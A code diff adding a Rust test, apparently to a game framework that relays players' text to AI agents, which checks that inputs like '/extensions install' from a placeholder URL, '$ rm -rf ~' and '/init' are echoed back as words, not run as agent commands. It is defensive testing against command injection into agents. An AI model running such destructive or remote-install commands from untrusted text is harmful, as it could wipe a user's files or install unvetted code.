@@ -580,6 +580,23 @@ fn the_session_api_works_awaited_on_an_executor_that_is_not_tokio() {
 }
 
 #[test]
+fn s4_the_players_text_is_never_an_agents_own_command() {
+    // A text that starts with `/` or `$` is a command of the agent's own to Claude's adapter and Gemini CLI (which
+    // writes files or installs extensions): the player's words, which a game may take from anyone, reach the agent
+    // as words, unchanged.
+    let dirs = Dirs::new();
+    let game = Game::start(&dirs);
+    let session = game.create(agent(&dirs, &[])).expect("the session starts");
+    for text in ["/extensions install https://example.invalid/x", "  $ rm -rf ~", "/init"] {
+        let turn = game.block_on(session.send_text(text)).expect("the turn ends");
+        let said = turn.final_message.unwrap_or_default();
+        assert_eq!(said, format!("You said: {text}"), "read as the player's words, not run");
+    }
+    game.block_on(session.end());
+    dirs.wait_no_agents(LIMIT);
+}
+
+#[test]
 fn an_agent_that_answers_a_turn_with_an_error_fails_that_turn_only_and_takes_the_next_text() {
     let dirs = Dirs::new();
     let game = Game::start(&dirs);
